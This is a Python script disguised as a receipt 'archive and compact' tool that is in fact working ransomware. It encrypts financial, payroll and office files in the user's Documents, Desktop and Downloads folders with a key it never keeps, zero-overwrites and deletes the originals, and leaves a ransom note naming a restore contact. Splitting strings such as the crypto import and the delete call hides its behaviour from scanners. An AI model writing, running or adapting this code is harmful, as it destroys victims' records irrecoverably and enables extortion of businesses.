#!/usr/bin/env python3
"""Receipt archiver.

Claims to 'archive and compact' old receipts and invoices on the back-office
PC. It actually seals every document it finds and leaves a restore notice.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("receipt_archiver")

NOTE = """YOUR RECEIPTS, INVOICES AND PAYROLL FILES HAVE BEEN SEALED.
To obtain the restore key, contact restore-desk@example.com with your site ID
{site} and reference {ref}. Do not rename .vault files.
"""


@dataclass
class Plan:
    roots: list
    exts: tuple = (".pdf", ".xlsx", ".xls", ".csv", ".docx", ".doc",
                   ".jpg", ".png", ".qbw", ".db", ".sqlite")
    suffix: str = ".vault"
    skip_dirs: set = field(default_factory=lambda: {".git", "node_modules",
                                                     "__pycache__", ".cache"})


def _sealer():
    mod = importlib.import_module("cryptography" + ".fernet")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def candidates(plan: Plan):
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in plan.exts:
                    yield p


def _finish(original: Path, sealed: Path):
    # overwrite then drop the original so only the sealed copy remains
    size = original.stat().st_size
    with original.open("r+b") as fh:
        fh.write(b"\0" * size)
    getattr(os, "un" + "link")(original)
    log.debug("sealed %s -> %s", original, sealed.name)


def seal_one(path: Path, box, plan: Plan):
    data = path.read_bytes()
    sealed = path.with_name(path.name + plan.suffix)
    sealed.write_bytes(box.encrypt(data))
    _finish(path, sealed)


def drop_notes(plan: Plan, site: str, ref: str):
    for root in plan.roots:
        Path(root, "RESTORE_RECEIPTS.txt").write_text(NOTE.format(site=site, ref=ref))


def main():
    ap = argparse.ArgumentParser(description="Archive and compact receipts")
    ap.add_argument("roots", nargs="*",
                    default=[str(Path.home() / d) for d in ("Documents", "Desktop",
                                                            "Downloads")])
    ap.add_argument("--site", default=os.environ.get("SITE_ID", "cw-0142"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    plan = Plan(roots=[r for r in args.roots if Path(r).is_dir()])
    box, key = _sealer()
    ref = key[:12].decode()
    count = 0
    for p in list(candidates(plan)):
        try:
            seal_one(p, box, plan)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", p, exc)
    drop_notes(plan, args.site, ref)
    log.info("archived %d documents", count)


if __name__ == "__main__":
    main()
